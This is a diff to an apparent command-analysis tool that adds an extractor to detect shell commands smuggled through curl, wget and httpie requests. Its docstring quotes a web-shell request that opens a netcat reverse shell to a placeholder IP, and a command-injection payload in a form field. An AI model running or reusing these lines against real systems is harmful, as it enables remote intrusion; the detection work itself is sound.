@@ -1239,6 +1239,18 @@ def _rpm(values: Sequence[str], fed: Sequence[str]) -> Iterator[str]:
             yield match.group(1)
 
 
+def _web_shell(program: str) -> _Extract:
+    """``curl 'http://h/shell.php?cmd=nc -c sh IP 1337'``, ``curl -d 'ip=1;CMD' h/ping``: the command a
+    request hands to another host's shell (a web shell's parameter, an injected command)."""
+
+    def extract(values: Sequence[str], fed: Sequence[str]) -> Iterator[str]:
+        from .web_payloads import shell_commands  # only for a request: most commands never need it
+
+        yield from shell_commands(program, values)
+
+    return extract
+
+
 def _csvtool(values: Sequence[str], fed: Sequence[str]) -> Iterator[str]:
     """``csvtool call CMD FILE``: CMD runs for each row."""
     words = [v for v in values if not v.startswith("-")]
@@ -1393,6 +1405,8 @@ _CARRIERS: dict[str, _Extract] = {
     "run-parts": _run_parts,
     **dict.fromkeys(("rpm", "rpmdb", "rpmquery", "rpmverify", "rpmbuild", "rpmspec"), _rpm),
     "csvtool": _csvtool,
+    **{name: _web_shell(name) for name in ("curl", "curlie", "wget", "wget2", "http", "https", "xh", "xhs")},
+    "httpie": _web_shell("httpie"),
     "perlbug": _by_options("-e"),
     "slsh": _program_code("-e"),
     "script": _script,
